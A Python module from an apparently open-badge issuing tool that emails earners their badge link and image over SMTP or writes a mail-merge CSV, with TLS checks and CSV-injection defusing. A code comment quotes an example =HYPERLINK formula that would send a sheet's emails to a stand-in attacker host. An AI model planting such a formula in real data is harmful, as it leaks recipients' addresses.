"""Telling earners: an email with their badge link and baked image (SMTP), or a mail-merge file.

Issue time is the only moment plaintext addresses exist; they go to the mail server or to a file
outside the repository, never anywhere else. SMTP settings come only from the environment.
"""

from __future__ import annotations

import csv
import io
import smtplib
import ssl
from collections.abc import Mapping, Sequence
from dataclasses import dataclass
from email.message import EmailMessage
from email.utils import formataddr, formatdate, make_msgid
from pathlib import Path

from ..files.atomic import write_atomically
from ..wording import counted

PREFIX = "BADGEPRESS_SMTP_"
LOCAL_HOSTS = {"localhost", "127.0.0.1", "::1"}
MERGE_COLUMNS = ("email", "name", "credential", "badge_url", "image_url")


class NotifyProblem(Exception):
    """Notifications cannot be sent or written; the message says what to set or change."""


@dataclass(frozen=True)
class Notice:
    """One earner's news: where their badge will be and its baked image."""

    email: str
    name: str | None
    credential: str  # the credential's name
    badge_url: str  # the earner's public badge page
    image_url: str
    image: bytes
    image_format: str  # "png" or "svg"


@dataclass(frozen=True)
class SmtpSettings:
    host: str
    port: int
    sender: str
    user: str | None = None
    password: str | None = None
    starttls: str = "auto"  # auto: when the server offers it; required: refuse without it; off
    ssl: bool = False  # implicit TLS (port 465)
    ca_file: str | None = None  # extra CA to trust, for a relay with a private certificate


def smtp_settings(environ: Mapping[str, str], default_sender: str) -> SmtpSettings:
    """Settings from BADGEPRESS_SMTP_* variables; NotifyProblem naming what is missing or wrong."""

    def get(name: str) -> str | None:
        value = environ.get(PREFIX + name, "").strip()
        return value or None

    host = get("HOST")
    if host is None:
        raise NotifyProblem(
            f"--notify needs an SMTP server: set {PREFIX}HOST (and {PREFIX}PORT, {PREFIX}USER, "
            f"{PREFIX}PASSWORD, {PREFIX}FROM as needed) in the environment, or use --mail-merge FILE.csv"
        )
    use_ssl = (get("SSL") or "").lower() in ("1", "true", "yes")
    port_text = get("PORT") or ("465" if use_ssl else "587")
    if not port_text.isdigit() or not 0 < int(port_text) < 65536:
        raise NotifyProblem(f"{PREFIX}PORT: expected a port number, found '{port_text}'")
    starttls = (get("STARTTLS") or "auto").lower()
    starttls = {"true": "required", "yes": "required", "1": "required"}.get(starttls, starttls)
    starttls = {"false": "off", "no": "off", "0": "off"}.get(starttls, starttls)
    if starttls not in ("auto", "required", "off"):
        raise NotifyProblem(f"{PREFIX}STARTTLS: expected auto, required or off, found '{starttls}'")
    user, password = get("USER"), environ.get(PREFIX + "PASSWORD")
    if user and not password:
        raise NotifyProblem(f"{PREFIX}USER is set but {PREFIX}PASSWORD is not")
    return SmtpSettings(
        host=host,
        port=int(port_text),
        sender=get("FROM") or default_sender,
        user=user,
        password=password,
        starttls=starttls,
        ssl=use_ssl,
        ca_file=get("CA_FILE"),
    )


def badge_message(notice: Notice, sender: str, issuer: str) -> EmailMessage:
    """The email to one earner: the badge link in the text, the baked image attached."""
    message = EmailMessage()
    message["From"] = formataddr((issuer, sender))
    message["To"] = formataddr((notice.name or "", notice.email.strip()))
    message["Subject"] = f"Your badge: {notice.credential}"
    message["Date"] = formatdate()
    message["Message-ID"] = make_msgid(domain=sender.rpartition("@")[2] or None)
    greeting = f"Dear {notice.name}," if notice.name else "Hello,"
    message.set_content(
        f"{greeting}\n\n"
        f'{issuer} has awarded you the badge "{notice.credential}".\n\n'
        f"Your badge page: {notice.badge_url}\n\n"
        "The attached image is your badge with its verification link baked in: upload it to a\n"
        "badge backpack or share the page link. Anyone can check it on the issuer's /verify/ page.\n"
        "(The page goes live with the next publication of the site.)\n"
    )
    subtype = "png" if notice.image_format == "png" else "svg+xml"
    message.add_attachment(
        notice.image,
        maintype="image",
        subtype=subtype,
        filename=f"badge.{notice.image_format}",
    )
    return message


class Mailer:
    """One SMTP connection, opened (and logged in) before any file is written."""

    def __init__(self, settings: SmtpSettings):
        self.settings = settings
        self.client: smtplib.SMTP | None = None

    def connect(self) -> None:
        """Connect, STARTTLS when offered (or required), log in; NotifyProblem on failure."""
        settings = self.settings
        context = ssl.create_default_context(cafile=settings.ca_file)
        try:
            if settings.ssl:
                client = smtplib.SMTP_SSL(settings.host, settings.port, timeout=30, context=context)
            else:
                client = smtplib.SMTP(settings.host, settings.port, timeout=30)
            self.client = client
            client.ehlo()
            encrypted = settings.ssl
            if not encrypted and settings.starttls != "off" and client.has_extn("starttls"):
                client.starttls(context=context)
                client.ehlo()
                encrypted = True
            if not encrypted and settings.starttls == "required":
                raise NotifyProblem(
                    f"{settings.host}:{settings.port} does not offer STARTTLS and {PREFIX}STARTTLS=required"
                )
            if settings.user:
                if not encrypted and settings.host not in LOCAL_HOSTS:
                    raise NotifyProblem(
                        f"refusing to send the SMTP password to {settings.host} unencrypted "
                        f"(the server offers no STARTTLS); use {PREFIX}SSL=1 or another server"
                    )
                client.login(settings.user, settings.password or "")
        except (OSError, smtplib.SMTPException) as exc:
            self.close()
            raise NotifyProblem(f"SMTP {settings.host}:{settings.port}: {exc}") from None
        except NotifyProblem:
            self.close()
            raise

    def send(self, messages: Sequence[EmailMessage]) -> int:
        """Send every message; NotifyProblem saying how many went out on failure."""
        sent = 0
        try:
            for message in messages:
                self.client.send_message(message)
                sent += 1
        except (OSError, smtplib.SMTPException) as exc:
            raise NotifyProblem(
                f"SMTP {self.settings.host}:{self.settings.port}: {exc}; "
                f"{sent} of {counted(len(messages), 'email')} sent"
            ) from None
        finally:
            self.close()
        return sent

    def close(self) -> None:
        """Say goodbye to the server (quietly when the connection is already gone)."""
        if self.client is not None:
            try:
                self.client.quit()
            except (OSError, smtplib.SMTPException):
                self.client.close()
            self.client = None


def check_merge_path(path: Path, repository: Path) -> Path:
    """The mail-merge file's place; refused inside the repository (emails never go there)."""
    target = path.expanduser().resolve()
    root = repository.resolve()
    if target == root or root in target.parents:
        raise NotifyProblem(
            f"--mail-merge {path}: inside the site repository; emails must never be written "
            "there (they would be committed). Choose a path outside it, e.g. ~/merge.csv"
        )
    if target.is_dir():
        raise NotifyProblem(f"--mail-merge {path}: is a folder; expected a file name")
    if not target.parent.is_dir():
        raise NotifyProblem(f"--mail-merge {path}: folder {target.parent} does not exist")
    return target


# A spreadsheet runs a cell that starts with one of these as a formula (CSV injection): a name
# such as =HYPERLINK("https://evil.example/?"&A2, "Click") would send the sheet's emails away.
_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_cell(text: str) -> str:
    """`text` as a CSV cell a spreadsheet shows and never evaluates: OWASP's CSV injection
    advice, a leading apostrophe before a cell that would start a formula."""
    return "'" + text if text.startswith(_FORMULA_STARTS) else text


def write_mail_merge(target: Path, notices: Sequence[Notice]) -> None:
    """A CSV for a mail merge: one row per badge; readable only by its owner (it holds emails).
    Every cell is quoted, and one that a spreadsheet would run as a formula is defused."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n", quoting=csv.QUOTE_ALL)
    writer.writerow(MERGE_COLUMNS)
    for n in notices:
        row = (n.email.strip(), n.name or "", n.credential, n.badge_url, n.image_url)
        writer.writerow([spreadsheet_cell(cell) for cell in row])
    write_atomically(target, buffer.getvalue().encode("utf-8"), mode=0o600)
